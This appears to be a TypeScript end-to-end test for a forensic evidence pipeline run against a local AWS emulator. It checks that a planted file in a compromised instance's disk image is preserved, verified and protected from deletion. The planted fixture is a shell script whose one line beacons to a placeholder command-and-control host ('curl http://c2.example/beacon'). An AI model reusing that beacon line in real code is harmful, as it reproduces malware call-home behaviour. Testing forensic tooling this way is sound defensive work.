import { randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CloudTrailClient } from '@aws-sdk/client-cloudtrail';
import { DescribeSnapshotsCommand } from '@aws-sdk/client-ec2';
import { DeleteObjectCommand, GetObjectCommand, type S3Client } from '@aws-sdk/client-s3';
import { type ClientOptions, createEvidenceClients, type EvidenceClients } from '../../lambdas/core/clients';
import { DEFAULT_EVIDENCE_CONFIG, type EvidenceConfig } from '../../lambdas/core/evidence/config';
import { collectEvidence } from '../../lambdas/core/evidence/pipeline';
import { recordVerification, verifyEvidence } from '../../lambdas/core/evidence/verify';
import { getQuarantine } from '../../lambdas/core/ledger/ledger';
import { buildExt4Image, readFileFromImage } from '../../local-aws/disk-image';
import { launchDiskInstance } from '../../local-aws/disk-instance';
import { seedVolume } from '../../local-aws/ebs-bridge/seed';
import { LOCAL_CREDENTIALS } from '../../local-aws/moto-server';
import { createVault } from '../../local-aws/vault';
import { isolateForEvidence } from '../support/evidence-env';
import { freshMoto, type MotoEnv, REGION } from '../support/moto';

const PLANTED = '/var/tmp/.x/implant.sh';
const FS_MIB = 16;

const compromisedInstance = (env: MotoEnv) => launchDiskInstance(env.clients.ec2, { cidr: '10.30.0.0/16' });

/**
 * Reads the start of the image (the 16 MiB the filesystem occupies) back from the vault: moto reads a
 * whole 1 GiB object per request, so the full byte-for-byte check is verify's, in two large ranges.
 */
async function download(s3: S3Client, bucket: string, key: string, versionId: string): Promise<string> {
  const res = await s3.send(
    new GetObjectCommand({
      Bucket: bucket,
      Key: key,
      VersionId: versionId,
      Range: `bytes=0-${FS_MIB * 1024 * 1024 - 1}`,
    }),
  );
  const path = join(tmpdir(), `sequester-image-${Date.now()}.raw`);
  writeFileSync(path, await (res.Body?.transformToByteArray() ?? Promise.resolve(new Uint8Array())));
  return path;
}

describe('evidence pipeline against moto: a real ext4 disk, end to end', () => {
  let env: MotoEnv;
  let ev: EvidenceClients;
  let cfg: EvidenceConfig;
  let opts: ClientOptions;
  beforeEach(async () => {
    env = await freshMoto();
    opts = { region: REGION, endpoint: env.endpoint, credentials: LOCAL_CREDENTIALS, maxAttempts: 3 };
    ev = createEvidenceClients(opts);
    const vault = await createVault(ev.s3, opts);
    cfg = { ...DEFAULT_EVIDENCE_CONFIG, vaultBucket: vault.bucket, retentionDays: 1 };
  });

  it('preserves the planted file byte-identical, verifies, and refuses deletion of the image', async () => {
    // Prepare
    const implant = Buffer.concat([
      Buffer.from('#!/bin/sh\ncurl http://c2.example/beacon\n'),
      randomBytes(70_000),
    ]);
    const image = buildExt4Image({ [PLANTED]: implant, 'etc/hostname': 'web-1\n' }, FS_MIB);
    const target = await compromisedInstance(env);
    await seedVolume(env.endpoint, { region: REGION, volumeId: target.volumeId, data: readFileSync(image) });
    const quarantineId = await isolateForEvidence(
      env,
      target.instanceId,
      'INC-7',
      'GuardDuty Backdoor:EC2/C&CActivity.B',
    );
    // Act
    const context = { iam: env.clients.iam, cloudtrail: new CloudTrailClient(opts) };
    const result = await collectEvidence(ev, env.ledger, quarantineId, cfg, {
      pollIntervalMs: 10,
      context,
    });
    // Assess
    const img = result.images[0];
    if (img === undefined) throw new Error('no image');
    expect(img.length).toBe(1024 ** 3);
    const raw = await download(ev.s3, cfg.vaultBucket, img.key, img.versionId);
    expect(readFileFromImage(raw, PLANTED).equals(implant)).toBe(true);
    const report = await verifyEvidence(ev.s3, cfg.vaultBucket, result.manifest.key, {
      versionId: result.manifest.versionId,
      rangeBytes: 512 * 1024 * 1024,
      concurrency: 2,
    });
    expect(report.problems).toEqual([]);
    expect(report.ok).toBe(true);
    await recordVerification(env.ledger, quarantineId, report, 'arn:aws:iam::123456789012:role/reviewer');
    expect(report.objects[0]?.retention?.mode).toBe('COMPLIANCE');
    const captured = report.manifest.context.filter((c) => c.status === 'captured').map((c) => c.name);
    expect(captured).toEqual(
      expect.arrayContaining(['request', 'pre-isolation-state', 'describe-instance', 'security-groups']),
    );
    expect(report.objects.filter((o) => o.key.includes('/context/')).every((o) => o.ok)).toBe(true);
    await expect(
      ev.s3.send(
        new DeleteObjectCommand({ Bucket: cfg.vaultBucket, Key: img.key, VersionId: img.versionId }),
      ),
    ).rejects.toMatchObject({ name: 'AccessDenied' });
    const rec = await getQuarantine(env.ledger, quarantineId);
    expect(rec?.state).toBe('evidence_sealed');
    expect(rec?.actions.map((a) => a.step)).toEqual(
      expect.arrayContaining([
        'snapshot',
        'context-captured',
        'export-started',
        'export-finished',
        'seal-manifest',
        'verify-evidence',
      ]),
    );
    const snaps = await ev.ec2.send(new DescribeSnapshotsCommand({ SnapshotIds: [img.snapshotId] }));
    expect(snaps.Snapshots?.[0]?.Description).toContain('INC-7');
  }, 240_000);
});
